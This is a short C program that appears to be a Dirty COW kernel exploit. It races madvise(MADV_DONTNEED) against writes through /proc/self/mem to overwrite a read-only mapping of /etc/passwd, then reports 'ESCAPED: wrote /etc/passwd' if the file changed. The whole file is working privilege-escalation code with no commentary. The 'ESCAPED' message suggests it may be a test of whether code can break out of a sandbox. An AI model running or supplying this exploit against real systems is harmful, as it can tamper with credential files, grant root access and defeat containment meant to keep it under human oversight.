#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char *map;
static size_t size;
static volatile int over;

static void *forget(void *unused) {
  while (!over) madvise(map, size, MADV_DONTNEED);
  return unused;
}

int main(void) {
  int file = open("/etc/passwd", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
  struct stat status;
  if (file < 0 || fstat(file, &status) < 0) return 1;
  size = (size_t)status.st_size;
  map = mmap(NULL, size, PROT_READ, MAP_PRIVATE, file, 0);
  pthread_t thread;
  pthread_create(&thread, NULL, forget, NULL);
  for (time_t end = time(NULL) + 2; time(NULL) < end;) {
    for (int i = 0; i < 1000; i++) {
      if (pwrite(memory, "cracked", 7, (off_t)(size_t)map) < 0 && i == 0) break;
    }
  }
  over = 1;
  pthread_join(thread, NULL);
  char now[8] = "";
  if (pread(file, now, 7, 0) == 7 && strcmp(now, "cracked") == 0) puts("ESCAPED: wrote /etc/passwd");
  return 0;
}
